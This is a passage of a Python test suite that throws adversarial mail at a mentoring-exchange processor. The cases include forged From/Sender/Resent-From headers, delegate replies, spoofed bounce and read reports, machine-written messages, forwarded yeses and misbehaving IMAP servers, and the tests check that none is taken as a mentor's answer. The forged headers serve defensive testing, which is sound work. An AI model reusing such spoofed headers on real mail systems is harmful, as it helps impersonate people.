# ruff: noqa: E501  # a table of attempts reads best with one attempt to a line
"""The twenty-seventh wave. What is expected here was written before it was first run, from the documents alone.

Its first half goes over the ten points of the attack with what no wave had before: assistants who write for somebody, mailboxes that two share,
people of one name, members of several roles, reports and forwards that cross an answer, machines that write a person's words down, servers of odd
ways, clocks that go back, copies of the records under other names, charsets, signed and encrypted mail. Its second half looks at what was changed
last from other sides: lines below a name, legal notices, mails of two parts, subjects over commands, second thoughts beside a command, a NO to a
question of ours, danger beside limits, letters that are written late, files that are not ours, and greetings. Where a mail is doubtful, a
question back, and a held mail with a receipt, are right as well; silence never is.
"""

from __future__ import annotations

import base64
import gzip
import os
import quopri
from collections.abc import Callable
from datetime import timedelta
from email import message_from_bytes
from pathlib import Path
from typing import Any

import pytest

from processor.config.roster import read_roster
from tests.attack.bounces import bounces, bounces_for_each
from tests.attack.box_deeds import (
    accepts,
    asked_on,
    both_sign_up,
    box_letters,
    exported,
    run,
    states_on,
)
from tests.attack.box_program import BoxProgram, a_pass, acted_once
from tests.attack.cvs import files_in, lee_is_introduced, signs_up_with
from tests.attack.databases import url_of
from tests.attack.deeds import NEEDS_A_PERSON, answered_by_robots, erase, order, says_yes, thirty_lists
from tests.attack.expected import (
    Case,
    anything,
    heard_at_once,
    how_it_is,
    is_member,
    jon_not_asked,
    not_accepted,
    of,
    parted,
    stands,
    together,
    tried,
)
from tests.attack.heard import is_answered
from tests.attack.imap_servers import BODIES, Proxy, before_the_end_of, changed, refuses_once, says
from tests.attack.letters import (
    JONS_SUBJECT,
    got,
    introduced,
    last,
    letter_names,
    question_to_jon,
    quotation,
    reply_address,
    sent_so_far,
    told,
    whole,
    words_of,
)
from tests.attack.mails_by_hand import (
    eml,
    inline,
    multipart,
    passes_on,
    raw,
)
from tests.attack.marks import grave
from tests.attack.people import (
    ADA,
    BOX_JON,
    BOX_MIA,
    CARLA,
    DAN,
    FORM_OF_NOA,
    FROM_JON,
    JON_NEW,
    LEA,
    MIA_HOME,
    NOA,
)
from tests.attack.prepared import as_prepared, fresh, with_policy
from tests.attack.records import addresses, events, member, pairs, request_states, row, waiting
from tests.attack.smtp_servers import Post, sending_to
from tests.attack.steps import (
    Seen,
    Step,
    Steps,
    answers,
    attaches,
    breaks,
    days,
    hours,
    jon_says,
    mended,
    orders,
    plays,
    server_down,
    server_up,
    signs_up,
    writes,
)
from tests.attack.two_parts import ARMOUR, LINK, YES, in_two, jon_by_hand, jon_two, mia_two
from tests.attacks import EVE, FORM, JON, MIA, Attacked
from tests.cv_samples import docx, pdf
from tests.doors.dovecot import Dovecot
from tests.operation.small import SmallProgram
from tests.player import ADDRESS
from tests.post_office import see

CRY = "He hit me, zebra."
MIA_TWO = "mia.okafor@uni.example"
JON_TWO = "jon.berg@north.example"
TEAM = "team@ward.example"


def by_next_day(world: Attacked) -> bool:
    world.later(days=1)
    return heard_at_once(world)


def many(*cases: Step) -> Step:
    def act(world: Attacked) -> None:
        plays(world, cases)

    return act


# =========================== 1. tokens, and in whose name somebody writes ===============================================================


def by_hand(head: str, words: str, proof: str = "hospital.example") -> Step:
    """In the thread of the letter that asks Jon, with a header of its own."""

    def act(world: Attacked) -> None:
        mail = question_to_jon(world)
        fields = f"To: {reply_address(mail)}\nSubject: Re: {see(mail).subject}\nDate: Mon, 2 Mar 2026 19:00:00 +0100\nIn-Reply-To: {mail.message_id}"
        raw(world, f"{head}\n{fields}", words, proof=proof)

    return act


ASSISTANTS: dict[str, Case] = {
    "an assistant, in English": ("asked", (), jon_says("ACCEPT\n\nBest\nAnna Kowalska\nAssistant to Jon Berg"), not_accepted),
    "an assistant, in German": ("asked", (), jon_says("ZUSAGE\n\nMit freundlichen Grüßen\ni. A. Eva Frost\nSekretariat Jon Berg"), not_accepted),
    "an assistant, in Polish": ("asked", (), jon_says("Tak, z przyjemnością.\n\nw imieniu Jona Berga\nAnna Kowalska"), not_accepted),
    "an assistant, in Dutch": ("asked", (), jon_says("ACCEPT\n\nnamens Jon Berg\nSanne de Vries"), not_accepted),
    "an assistant, in Italian": ("asked", (), jon_says("ACCEPT\n\nper conto di Jon Berg\nGiulia Rossi"), not_accepted),
    "an assistant, in Danish": ("asked", (), jon_says("ACCEPT\n\npå vegne af Jon Berg\nMette Holm"), not_accepted),
    "an assistant, in Portuguese": ("asked", (), jon_says("ACCEPT\n\nem nome de Jon Berg\nRita Sousa"), not_accepted),
    "she tells of his yes": ("asked", (), jon_says("I write on behalf of Jon: he accepts."), not_accepted),
    "she was asked to say it": ("asked", (), jon_says("Jon is out this week. I am his assistant, and he asked me to say yes."), not_accepted),
    "sent by a delegate of Outlook": ("asked", (), by_hand(f"From: Jon Berg <{JON}>\nSender: Anna Kowalska <anna@hospital.example>", "ACCEPT"), stands("AP")),
    "from the delegate, sent as he": ("asked", (), by_hand(f"From: Anna Kowalska <anna@hospital.example>\nSender: Jon Berg <{JON}>", "ACCEPT"), not_accepted),
    "his name and her address": ("asked", (), by_hand("From: Jon Berg via Anna <anna@hospital.example>", "ACCEPT"), not_accepted),
    "sent once more by him": ("asked", (), by_hand(f"From: Anna Kowalska <anna@hospital.example>\nResent-From: Jon Berg <{JON}>\nResent-To: {ADDRESS}", "ACCEPT"), not_accepted),
    "on behalf of, in the From line": ("asked", (), by_hand(f"From: Anna Kowalska on behalf of Jon Berg <{JON}>", "ACCEPT"), stands("AP")),
    "a group of both": ("asked", (), by_hand(f"From: Office: Jon Berg <{JON}>, Anna <anna@hospital.example>;", "ACCEPT"), not_accepted),
}  # fmt: skip


@grave("an assistant's yes, or a stranger's, is taken for the mentor's own")
@pytest.mark.parametrize("how", ASSISTANTS)
def test_who_writes_for_a_mentor_is_not_the_mentor(how: str) -> None:
    """reading-answers.md: another name at the end is asked about, and so is "p.p."; DESIGN, trust: exactly one From; the sender must be the one who was asked."""
    tried(ASSISTANTS[how], JON)


def team_is_a_mentor(world: Attacked) -> None:
    """Noa Weiss, at a mailbox of the ward, and Mia has asked her."""
    signs_up(TEAM, "Noa Weiss")(world)
    world.later(minutes=2)
    world.write(MIA, f"REQUEST {member(world, TEAM)['code']}", "Would you?")


def two_mias(world: Attacked) -> None:
    """Two of the name of Mia Okafor, and both have asked Jon: REQ-1 and REQ-2."""
    signs_up(MIA_TWO, "Mia Okafor", "MENTEE")(world)
    world.later(minutes=2)
    world.write(MIA_TWO, "REQUEST M-1001", "I would like to learn, too.")


def two_jons(world: Attacked) -> None:
    signs_up(JON_TWO, "Jon Berg")(world)


def in_both_roles(world: Attacked) -> None:
    """Ada is a mentor and a mentee: she has asked Jon, and Lea has asked her."""
    world.write(ADA, "SIGN UP MENTEE", FORM.format(name="Ada Lind"))
    world.later(minutes=2)
    world.write(ADA, "REQUEST M-1001", "Would you?")
    world.later(minutes=2)
    world.write(LEA, f"REQUEST {member(world, ADA)['code']}", "Would you?")


def paired_in_both_roles(world: Attacked) -> None:
    in_both_roles(world)
    world.reply(JON, last(world, "request", JON), "ACCEPT")
    world.reply(ADA, last(world, "request", ADA), "ACCEPT")
    world.later(days=2)
    assert sorted(pairs(world)) == [(ADA, LEA), (JON, ADA)]


def both_pairs(world: Attacked) -> bool:
    return sorted(pairs(world)) == [(ADA, LEA), (JON, ADA)]


NAMES: dict[str, Case] = {
    "of one mailbox, the other says yes": ("office", (team_is_a_mentor,), lambda w: w.reply(TEAM, last(w, "request", TEAM), "Yes, happy to.\n\nPat Lund"), not_accepted),
    "of one mailbox, the whole team says yes": ("office", (team_is_a_mentor,), lambda w: w.reply(TEAM, last(w, "request", TEAM), "ACCEPT\n\nKind regards\nThe ward team"), anything),
    "of one mailbox, the other signs up": ("office", (signs_up(TEAM, "Noa Weiss", "MENTEE"),), signs_up(TEAM, "Pat Lund", "MENTEE"), lambda w: "Noa Weiss" in told(got(w, TEAM)[-1:], TEAM) or bool(waiting(w))),
    "two mentees of one name, a yes without a thread": ("asked", (two_mias,), writes(JON, "Mentoring", "Yes to Mia Okafor."), not_accepted),
    "two mentees of one name, a no without a thread": ("asked", (two_mias,), writes(JON, "Mentoring", "I cannot mentor Mia Okafor, sorry."), lambda w: request_states(w) == "PP"),
    "two mentees of one name, a yes in a thread": ("asked", (two_mias,), jon_says("Yes to Mia Okafor, happy to."), lambda w: request_states(w)[1] == "P" and not introduced(w, MIA_TWO)),
    "two mentees of one name, a coordinator's break": ("asked", (two_mias,), orders("PAUSE Mia Okafor"), lambda w: w.standing(MIA) == w.standing(MIA_TWO) == "active" and MIA_TWO in told(got(w, CARLA))),
    "two mentees of one name, a match": ("asked", (two_mias,), orders("MATCH Mia Okafor WITH Ada Lind"), parted),
    "two mentees of one name, erased": ("asked", (two_mias,), many(orders("ERASE Mia Okafor"), lambda w: says_yes(w)), lambda w: {MIA, MIA_TWO} <= set(addresses(w))),
    "two mentees of one name, kept apart": ("asked", (two_mias,), orders("BLOCK Mia Okafor AND Jon Berg"), lambda w: MIA_TWO in told(got(w, CARLA)) and "blocked" not in str(events(w, "blocked"))),
    "two mentors of one name": ("office", (two_jons,), writes(MIA, "REQUEST Jon Berg", "Would you?"), lambda w: not request_states(w) and not [m for who in (JON, JON_TWO) for m in got(w, who) if m.letter == "request"]),
    "two mentors of one name, asked for her": ("office", (two_jons,), orders(f"ASK Jon Berg FOR {MIA}"), lambda w: not request_states(w)),
    "in both roles, a word": ("office", (in_both_roles,), writes(ADA, "ACCEPT"), lambda w: (JON, ADA) not in pairs(w)),
    "in both roles, takes it back": ("office", (in_both_roles,), writes(ADA, "WITHDRAW"), lambda w: request_states(w)[1] == "P"),
    "in both roles, an end without a thread": ("office", (paired_in_both_roles,), writes(ADA, "END NOW"), both_pairs),
    "in both roles, an end in one thread": ("office", (paired_in_both_roles,), answers(ADA, "introduction-mentor", "END NOW"), lambda w: pairs(w) == [(JON, ADA)]),
    "in both roles, a goodbye": ("office", (paired_in_both_roles,), writes(ADA, "LEAVE"), both_pairs),
    "in both roles, a cry about one of the two": ("office", (paired_in_both_roles,), answers(ADA, "introduction-mentee", f"STATUS\n\n{CRY}"), heard_at_once),
    "a coordinator in both roles, an end of all": ("office", (lambda w: w.write(CARLA, "SIGN UP MENTOR", FORM.format(name="Carla Voss")), lambda w: w.write(MIA, f"REQUEST {member(w, CARLA)['code']}", "Would you?")), writes(CARLA, "ACCEPT REQ-1"), lambda w: pairs(w) in ([], [(CARLA, MIA)])),
}  # fmt: skip


@grave("an answer, an end or a command is done to somebody else of that name or mailbox")
@pytest.mark.parametrize("how", NAMES)
def test_people_of_one_name_one_mailbox_or_two_roles_are_told_apart(how: str) -> None:
    """for-coordinators.md, names: where two have that name, nothing is done, and you get both; reading-answers.md: another name is asked about; for-members.md, LEAVE."""
    case = NAMES[how]
    of_jon = "two m" in how and ("without" in how or "in a thread" in how)
    who = TEAM if "mailbox" in how else JON if of_jon else ADA if "in both" in how else MIA
    tried(case, CARLA if "coord" in how else who)


@grave("on a database a command is done to one of two of that name")
@pytest.mark.parametrize("how", ["two mentees of one name, a coordinator's break", "two mentors of one name", "in both roles, an end without a thread", "two mentees of one name, a yes in a thread"])  # fmt: skip
def test_on_each_database_people_of_one_name_are_told_apart(both: Attacked, how: str) -> None:
    """As above; both stores must agree."""
    kind, before, mail, seen = NAMES[how]
    world = as_prepared(both, kind)
    plays(world, before)
    mail(world)
    world.later(hours=2)
    assert seen(world), how_it_is(world)


# =========================== 2. reports, and machines that write words down ==============================================================


def of_question(**more: str) -> Step:
    return lambda w: bounces(w, question_to_jon(w), more.pop("of", JON), **more)


def report_of(
    kind: str, fields: str, subject: str = "Read: Would you mentor Mia Okafor? [REQ-1]", who: str = JON
) -> Step:
    """A report of another kind about the letter that asks Jon, proven as his."""

    def act(world: Attacked) -> None:
        mail = question_to_jon(world)
        head = f"From: Jon Berg <{who}>\nTo: {reply_address(mail)}\nSubject: {subject}\nDate: Mon, 2 Mar 2026 19:00:00 +0100\nIn-Reply-To: {mail.message_id}\nMIME-Version: 1.0\nContent-Type: multipart/report; report-type={kind}; boundary=b"
        body = f"--b\nContent-Type: text/plain; charset=utf-8\n\nYour message was accepted and displayed.\n\nACCEPT\n\n--b\nContent-Type: message/{kind}\n\n{fields}\nOriginal-Message-ID: {mail.message_id}\n\n--b--"
        raw(world, head, body, proof="hospital.example")

    return act


REPORTS: dict[str, tuple[str, Steps, Seen]] = {
    "dead, after his yes": ("asked", (jon_says("ACCEPT"), of_question(), hours(2)), together),
    "dead, after she took it back": ("asked", (writes(MIA, "WITHDRAW"), of_question(), hours(2)), lambda w: request_states(w) == "W" and "bouncing" in (w.standing(JON), "bouncing")),
    "dead, and then his yes": ("asked", (of_question(), jon_says("ACCEPT"), hours(2)), lambda w: w.standing(JON) == "active" and not (introduced(w, MIA) and "U" in request_states(w))),
    "in capitals of the host": ("asked", (of_question(of="jon@HOSPITAL.example"), hours(2)), lambda w: request_states(w) == "U"),
    "expanded": ("asked", (of_question(action="expanded", status="2.1.5"), hours(2)), stands("P")),
    "failed with a number of success": ("asked", (of_question(action="failed", status="2.0.0"), hours(2)), lambda w: request_states(w) in "PU"),
    "read": ("asked", (report_of("disposition-notification", "Final-Recipient: rfc822; jon@hospital.example\nDisposition: manual-action/MDN-sent-manually; displayed"), hours(2)), stands("P")),
    "deleted unread": ("asked", (report_of("disposition-notification", "Final-Recipient: rfc822; jon@hospital.example\nDisposition: automatic-action/MDN-sent-automatically; deleted", "Not read: Would you mentor"), hours(2)), stands("P")),
    "called spam by him": ("asked", (report_of("feedback-report", "Feedback-Type: abuse\nUser-Agent: x/1\nVersion: 1", "Abuse"), hours(2)), lambda w: request_states(w) == "P" and w.standing(JON) == "active"),
    "twice the same": ("asked", (of_question(), of_question(), hours(2)), lambda w: request_states(w) == "U" and letter_names(got(w, MIA)).count("undeliverable") <= 1 and letter_names(got(w, CARLA)).count("note") == 1),
    "of an introduction": ("paired", (lambda w: bounces(w, last(w, "introduction-mentee", MIA), MIA), hours(2)), lambda w: together(w) and len(got(w, JON)) > 3),
    "of somebody who is erased": ("paired", (lambda w: erase(w, MIA), lambda w: bounces(w, last(w, "introduction-mentee", MIA), MIA), days(1)), lambda w: MIA not in addresses(w) and MIA not in told(got(w, CARLA)[-1:])),
    "in the wider kind": ("asked", (lambda w: bounces_for_each(w, question_to_jon(w), (JON, "failed", "5.1.1"), kind="global-delivery-status"), hours(2)), lambda w: request_states(w) in "PU"),
    "of a mail to a coordinator": ("paired", (writes(LEA, "A thing", NEEDS_A_PERSON), lambda w: bounces(w, got(w, CARLA)[-1], CARLA), hours(2)), lambda w: CARLA in told(got(w, DAN), DAN)),
    "of a reminder, after his no": ("asked", (days(6), jon_says("REJECT"), lambda w: bounces(w, last(w, "reminder", JON), JON), hours(2)), lambda w: request_states(w) == "R"),
}  # fmt: skip


@grave("a report or a receipt answers a request, ends what goes on, or brings somebody back")
@pytest.mark.parametrize("how", REPORTS)
def test_a_report_that_crosses_an_answer_changes_no_more_than_it_says(how: str) -> None:
    """flow.md, tokens (a bounce counts once, and only of the address that we wrote to); REQUEST_MOVES; automatic mail is never an answer; ERASE."""
    kind, steps, seen = REPORTS[how]
    world = fresh(kind)
    plays(world, steps)
    assert seen(world), how_it_is(world)


MACHINES: dict[str, Case] = {
    "a voice mail that is written down": ("asked", (), jon_says("You have a new voicemail from +49 30 123456.\nDuration: 0:12\nTranscript: \"yes yes okay, call me about it\""), not_accepted),
    "a missed call": ("asked", (), jon_says("Missed call from Mia Okafor. Accept or reject future calls in the settings."), not_accepted),
    "a fax": ("asked", (), jon_says("Fax received from +49 30 123456, 1 page. Result: OK"), not_accepted),
    "a text message from a gateway": ("asked", (), lambda w: w.write("+4930123456@sms.example", "SMS", "ACCEPT"), not_accepted),
    "a reader aloud": ("asked", (), jon_says("Accept full stop new line kind regards comma Jon"), stands("AP")),
    "an answer in Finnish by a robot without fields": ("asked", (), jon_says("Olen lomalla 20.3. asti. Kiireellisissä asioissa ota yhteyttä sihteeriini."), not_accepted),
    "an answer in Hungarian by a robot without fields": ("asked", (), jon_says("Szabadságon vagyok március 20-ig. Igen, visszahívom."), not_accepted),
    "an answer in Turkish by a robot without fields": ("asked", (), jon_says("20 Mart'a kadar izindeyim. Mesajınız kabul edildi."), not_accepted),
    "a ticket system's": ("asked", (), jon_says("[Ticket 81 accepted] We have accepted your request and will work on it."), not_accepted),
    "an AI that sums up": ("asked", (), jon_says("Summary by assistant: The sender asks whether Jon would mentor Mia. Suggested reply: Yes, happy to."), not_accepted),
    "an AI's draft above his no": ("asked", (), jon_says("Suggested reply: ACCEPT\n\nNo, I cannot, sorry.\nJon"), lambda w: request_states(w) in "PR"),
    "a translation by his mail program": ("asked", (), jon_says("Translated from German:\nI accept.\n\nShow original"), stands("AP")),
    "a guarded mailbox": ("asked", (), jon_says("Your message is waiting for approval. Click accept to prove that you are human."), not_accepted),
}  # fmt: skip


@grave("what a machine writes is taken for a yes")
@pytest.mark.parametrize("how", MACHINES)
def test_what_a_machine_writes_down_is_no_yes(how: str) -> None:
    """reading-answers.md: a clause counts only when every word of it is understood; words in quotation marks; flow.md: automatic mail is never an answer."""
    tried(MACHINES[how], JON)


def calendar_reply(subject: str, words: str) -> Step:
    kind, body, _ = multipart(
        f"Content-Type: text/plain; charset=utf-8\n\n{words}\n",
        f"Content-Type: text/calendar; method=REPLY; charset=utf-8\n\nBEGIN:VCALENDAR\nMETHOD:REPLY\nBEGIN:VEVENT\nUID:lunch-1@hospital.example\nATTENDEE;PARTSTAT=ACCEPTED:mailto:{JON}\nSUMMARY:Lunch\nEND:VEVENT\nEND:VCALENDAR\n",
        kind="alternative",
    )

    def act(world: Attacked) -> None:
        mail = question_to_jon(world)
        raw(
            world,
            f"From: Jon Berg <{JON}>\nTo: {reply_address(mail)}\nSubject: {subject}\nDate: Mon, 2 Mar 2026 19:00:00 +0100\nMIME-Version: 1.0\nContent-Type: {kind}",
            body,
            proof="hospital.example",
        )

    return act


@grave("a calendar's yes to a lunch is taken for one to a mentee")
@pytest.mark.parametrize(("subject", "words"), [("Hyväksytty: Lunch", ""), ("Elfogadva: Lunch", ""), ("Kabul Edildi: Lunch", ""), ("Zaakceptowano: Lunch", "ACCEPT"), ("Accepted: Lunch", "ACCEPT"), ("Geaccepteerd: Lunch", "Ja, graag!")])  # fmt: skip
def test_a_calendar_s_yes_is_no_answer_to_a_request(subject: str, words: str) -> None:
    """CHANGELOG: a calendar's mail is never an answer to a request, whatever kind of invitation it is; flow.md: words that somebody types into it are held."""
    world = fresh("asked")
    begin = sent_so_far(world)
    calendar_reply(subject, words)(world)
    world.later(hours=2)
    assert not_accepted(world), how_it_is(world, begin)


# =========================== 3. what is passed on ========================================================================================

LATE_YES = eml(FROM_JON, JONS_SUBJECT, "Accept")


def passes(header: str, words: str = "ACCEPT", note: str = "") -> Step:
    """A coordinator, in the text, with a header of her mail program's."""
    return lambda w: w.write(
        CARLA,
        f"Fwd: {JONS_SUBJECT}",
        f"{note}\n\n{header.format(who=FROM_JON, to=CARLA, subject=JONS_SUBJECT)}{words}",
    )


PASSED: dict[str, Case] = {
    "his yes of before his no": ("asked", (jon_says("REJECT"),), attaches(YES), not_accepted),
    "his yes, and she has taken it back": ("asked", (writes(MIA, "WITHDRAW"),), attaches(YES), lambda w: request_states(w) == "W"),
    "his yes, and he says it as well": ("asked", (attaches(YES),), jon_says("ACCEPT"), lambda w: introduced(w, MIA) == 1),
    "his yes, by both of them": ("asked", (attaches(YES),), attaches(YES, sender=DAN), lambda w: introduced(w, MIA) == 1),
    "his yes, after the end of the pair": ("paired", (writes(MIA, "END NOW"), hours(3)), attaches(LATE_YES), parted),
    "his yes, and he has left": ("asked", (writes(JON, "LEAVE"), hours(3)), attaches(YES), not_accepted),
    "his yes, and he is erased": ("asked", (lambda w: erase(w, JON),), attaches(YES), lambda w: JON not in addresses(w) and not introduced(w, MIA)),
    "his yes, and he has moved": ("asked", (writes(JON, f"CHANGE ADDRESS {JON_NEW}"), answers(JON_NEW, "confirm-address", "YES")), attaches(YES), lambda w: pairs(w) in ([], [(JON_NEW, MIA)])),
    "of Lea, who passes on his yes": ("asked", (), attaches(eml(f"Lea Stone <{LEA}>", f"Fwd: {JONS_SUBJECT}", inline(FROM_JON, "ACCEPT", JONS_SUBJECT))), not_accepted),
    "on behalf of, in the text": ("asked", (), passes("-----Original Message-----\nFrom: Anna Kowalska <anna@hospital.example> On Behalf Of {who}\nSent: Monday, March 2, 2026 10:00 AM\nTo: {to}\nSubject: {subject}\n\n"), not_accepted),
    "on behalf of, in Polish": ("asked", (), passes("Od: Anna Kowalska <anna@hospital.example> w imieniu {who}\nWysłano: poniedziałek, 2 marca 2026 10:00\nDo: {to}\nTemat: {subject}\n\n"), not_accepted),
    "in Hungarian": ("asked", (), passes("-----Eredeti üzenet-----\nFeladó: {who}\nElküldve: 2026. március 2., hétfő 10:00\nCímzett: {to}\nTárgy: {subject}\n\n"), stands("AP")),
    "in Turkish": ("asked", (), passes("Kimden: {who}\nGönderildi: 2 Mart 2026 Pazartesi 10:00\nKime: {to}\nKonu: {subject}\n\n"), stands("AP")),
    "in Danish": ("asked", (), passes("-----Oprindelig meddelelse-----\nFra: {who}\nSendt: 2. marts 2026 10:00\nTil: {to}\nEmne: {subject}\n\n"), stands("AP")),
    "in Portuguese": ("asked", (), passes("-----Mensagem original-----\nDe: {who}\nEnviada: segunda-feira, 2 de março de 2026 10:00\nPara: {to}\nAssunto: {subject}\n\n"), stands("AP")),
    "of Apple": ("asked", (), passes("Begin forwarded message:\n\nFrom: {who}\nSubject: {subject}\nDate: March 2, 2026 at 10:00:00 AM GMT+1\nTo: {to}\n\n"), stands("A")),
    "not yet, in Polish, below her name": ("asked", (), attaches(YES, note="Przyszło do mnie.\n\nPozdrawiam\nCarla\n\nJeszcze nie"), not_accepted),
    "not yet, in Italian, below her name": ("asked", (), attaches(YES, note="Grazie!\n\nSaluti\nCarla\n\nAspettate ancora"), not_accepted),
    "only if, in Swedish, above": ("asked", (), attaches(YES, note="Bara om Mia fortfarande vill."), not_accepted),
    "a question in a legal notice above": ("asked", (), attaches(YES, note="This email is confidential. Is it really from him?"), not_accepted),
    "her notice above is one": ("asked", (), attaches(YES, note="For you.\n\nCarla Voss\n\nThis e-mail is confidential and may be legally privileged. If you are not the intended recipient, please delete it."), stands("AP")),
    "a cry of hers": ("paired", (), attaches(eml(f"Mia Okafor <{MIA}>", "mentoring", f"END NOW\n\n{CRY}")), heard_at_once),
    "a cry below his yes": ("asked", (), attaches(eml(FROM_JON, JONS_SUBJECT, "ACCEPT\n\nSomebody threatens to kill me, zebra.")), anything),
    "a name without an address": ("asked", (), attaches(eml("Jon Berg", JONS_SUBJECT, "ACCEPT")), not_accepted),
    "a mailing list's": ("asked", (), attaches(eml("Jon Berg via Pharmacists <list@pharmacists.example>", JONS_SUBJECT, "ACCEPT", f"List-Id: <pharmacists.example>\nReply-To: {JON}\n")), not_accepted),
    "signed by S/MIME": ("asked", (), attaches(eml(FROM_JON, JONS_SUBJECT, "--s\nContent-Type: text/plain\n\nACCEPT\n--s\nContent-Type: application/pkcs7-signature; name=smime.p7s\nContent-Transfer-Encoding: base64\n\nMIAGCSqGSIb3DQEHAqCAMIACAQExDzANBglghkgBZQMEAgEFADCABgkqhkiG9w0BBwEAAAAA\n--s--", 'MIME-Version: 1.0\nContent-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary=s\n')), stands("AP")),
}  # fmt: skip


@grave(
    "what is passed on acts for the wrong person, or against what was said since, or a cry in it is read by nobody"
)
@pytest.mark.parametrize("how", PASSED)
def test_what_is_passed_on_is_judged_by_what_has_been_said_since(how: str) -> None:
    """flow.md, what a coordinator passes on, row by row; it is judged as if its first sender had written it; for-coordinators.md, forward what reached you."""
    tried(PASSED[how], JON if "he says it" in how else CARLA)


# =========================== 4. limits ===================================================================================================


def full_day(world: Attacked) -> None:
    """Coordinators have had their ten single mails."""
    for n in range(12):
        world.write(f"pia@w{n}.example", f"A thing {n}", f"{NEEDS_A_PERSON} That was in {1990 + n}.")


FULL: dict[str, Case] = {
    "beside an undo": ("paired", (writes(MIA, "END NOW"), full_day), writes(MIA, "UNDO", "UNDO\n\nHe threatens me, zebra."), heard_at_once),
    "beside a request taken back": ("asked", (full_day,), answers(MIA, "request-received", "WITHDRAW\n\nEr hat mich bedroht, zebra."), heard_at_once),
    "beside a no": ("asked", (full_day,), jon_says("REJECT\n\nShe stalks me, zebra."), heard_at_once),
    "beside a mark": ("paired", (days(22), full_day), answers(MIA, "check-in", "5\n\nMi ha picchiata, zebra."), heard_at_once),
    "beside a renewal": ("paired", (days(160), full_day), writes(MIA, "RENEW", "RENEW\n\nIl me frappe, zebra."), by_next_day),
    "beside no, to was it you": ("paired", (writes(MIA, "PAUSE", proof=""), full_day), answers(MIA, "confirm", "NO. And he hits me, zebra."), heard_at_once),
    "beside a break": ("paired", (full_day,), writes(MIA, "PAUSE", "PAUSE\n\nHan slår mig, zebra."), heard_at_once),
    "in a legal notice": ("paired", (full_day,), writes(MIA, "STATUS", "STATUS\n\nThis message is confidential. He hit me, zebra."), heard_at_once),
    "in the page alone": ("paired", (full_day,), lambda w: in_two(w, MIA, "STATUS", f"<p>STATUS</p><p>{CRY}</p>"), heard_at_once),
    "after thirty lists": ("paired", (thirty_lists,), writes(MIA, "STATUS", f"STATUS\n\n{CRY}"), heard_at_once),
    "after thirty lists, in an answer to a calendar": ("paired", (thirty_lists,), lambda w: raw(w, f"From: {MIA}\nTo: {ADDRESS}\nSubject: Declined: First talk\nDate: Mon, 2 Mar 2026 21:00:00 +0100\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8", CRY, proof="college.example"), heard_at_once),
    "unproven, after its answer of the day": ("paired", (writes(MIA, "STATUS", proof=""), full_day), writes(MIA, "STATUS", f"STATUS\n\n{CRY}", proof=""), heard_at_once),
    "below her name on a full day": ("paired", (full_day,), writes(MIA, "STATUS", f"STATUS\n\nBest\nMia\n\n{CRY}"), heard_at_once),
    "by a stranger whose domain has had its ten": ("paired", (many(*(writes(f"p{n}@far.example", f"Thing {n}", f"{NEEDS_A_PERSON} {n}") for n in range(12))),), writes("zoe@far.example", "Please help", "Jon Berg hit my sister, zebra."), by_next_day),
    "while the program is stopped": ("paired", (orders("STOP"), lambda w: says_yes(w), writes(MIA, "STATUS", f"STATUS\n\n{CRY}")), orders("START"), by_next_day),
    "in a mail as large as is allowed": ("paired", (full_day,), writes(MIA, "STATUS", "STATUS\n\n" + "I have thought about it a lot.\n" * 900 + CRY), heard_at_once),
}  # fmt: skip


@grave("somebody cries for help on a full day, and no person reads it")
@pytest.mark.parametrize("how", FULL)
def test_danger_beside_anything_is_read_whatever_the_day_was(how: str) -> None:
    """rules.md, dire: at once, beside whatever else it does, held for another reason or over a limit of the day; words for the partner reach nobody else."""
    tried(FULL[how], JON if "a no" in how and "was it" not in how else MIA)


@grave("a robot and the program write to each other without end")
@pytest.mark.parametrize("words", ["Voicemail {n} from an unknown caller. Press 1 to listen.", "Sinun viestisi {n} on vastaanotettu.", "Az üzenetét {n} megkaptuk, köszönjük.", "Mesajınız {n} alınmıştır.", "Yes, thank you! ({n})", "Dear Mentor Exchange,\n\nthank you for your mail {n}."])  # fmt: skip
def test_a_machine_without_a_robot_s_fields_falls_silent(words: str) -> None:
    """FAULTS 22: two instances stop at five mails; flow.md: a robot is known by its rhythm and its repeated words."""
    world = fresh("paired")
    begin = sent_so_far(world)
    world.write(LEA, "HELP")
    letters = answered_by_robots(world, begin, (LEA,), words)
    assert letters <= 7, (letters, how_it_is(world, begin))
    world.later(days=1)
    assert len(got(world, CARLA, begin)) <= 4, how_it_is(world, begin)


# =========================== 5. servers, clocks, two programs ============================================================================


ODD_IMAP: dict[str, Callable[[Proxy], None]] = {
    "it tells of mails that are gone and are not": says(before_the_end_of(b"FETCH", b"* 1 EXPUNGE\r\n")),
    "it lists nothing below its list": says(before_the_end_of(b"SEARCH", b"* SEARCH\r\n")),
    "it warns of a full disk": says(before_the_end_of(b"FETCH", b"* OK [ALERT] your quota is used up\r\n* FLAGS (\\Seen)\r\n")),
    "it numbers its mailbox anew for a while": says(changed(rb"UIDVALIDITY \d+", b"UIDVALIDITY 4294967295")),
    "it files no more than it likes": refuses_once(b"UID MOVE", b"TAG NO [LIMIT] rate limit hit\r\n"),
    "it understands no search at first": refuses_once(b"UID SEARCH", b"TAG BAD what?\r\n"),
    "it says goodbye amid a mail": says(before_the_end_of(BODIES, b"* BYE shutting down\r\n")),
    "it adds what nobody asked for": says(changed(rb"FETCH \(UID", b"FETCH (MODSEQ (12) X-GM-MSGID 1278455344230334865 UID", BODIES)),
    "it is in use elsewhere": refuses_once(b"SELECT", b"TAG NO [INUSE] mailbox is locked\r\n", 3),
    "it is not in service for its user": refuses_once(b"AUTHENTICATE", b"TAG NO [UNAVAILABLE] try again\r\n", 2),
}  # fmt: skip


@grave("a mail is lost or done twice by what a server says, or the program ends")
@pytest.mark.parametrize("how", ODD_IMAP)
def test_on_dovecot_each_mail_is_done_once_whatever_is_said_meanwhile(how: str, imap: Dovecot, proxy: Proxy, tmp_path: Path, request: pytest.FixtureRequest) -> None:  # fmt: skip
    """FAULTS 55, 5, 6; flow.md, intake; DESIGN, promises."""
    world = BoxProgram(tmp_path, imap=imap, proxy=proxy, database="sqlite:///program.db")
    world.sign_up()
    ODD_IMAP[how](proxy)
    with world.parts() as parts:
        for later in (0, 1, 2):
            a_pass(parts, timedelta(minutes=later))
        proxy.plain()
        for later in (40, 80, 160):
            a_pass(parts, timedelta(minutes=later))
    acted_once(world)
    assert world.left() == 0


def later_once(code: str, times: int) -> Callable[[Post], None]:
    def begins(post: Post) -> None:
        left = [times]

